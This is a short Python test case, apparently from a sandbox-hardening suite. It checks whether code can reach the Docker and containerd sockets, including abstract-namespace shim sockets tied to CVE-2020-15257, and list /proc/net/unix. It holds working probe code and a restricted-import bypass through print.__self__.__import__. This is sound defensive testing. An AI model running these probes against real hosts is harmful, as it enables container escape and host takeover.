# attack: AF_UNIX to the docker socket path and to abstract-namespace sockets (containerd-shim
#   style, CVE-2020-15257), and lists /proc/net/unix for anything to talk to
# expect: status in ok|error ; stdout lacks CONNECTED|LISTED
# escaped: stdout "CONNECTED b'\\x00/containerd-shim/moby/abc/shim.sock'\n"
import sys

socket = print.__self__.__import__("socket")
io = sys.modules["io"]
for name in ("/var/run/docker.sock", "/run/containerd/containerd.sock",
             b"\0/containerd-shim/moby/shim.sock", b"\0/containerd-shim", b"\0docker",
             b"\0/tmp/.X11-unix/X0", b"\0dbus-system"):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(name)
        print("CONNECTED", name)
    except BaseException as exc:
        print("refused", name, type(exc).__name__)
try:
    with io.open("/proc/net/unix") as f:
        for line in f.read().splitlines()[1:]:
            fields = line.split()
            if len(fields) > 7:
                print("LISTED", fields[7])
except BaseException as exc:
    print("refused /proc/net/unix", type(exc).__name__)
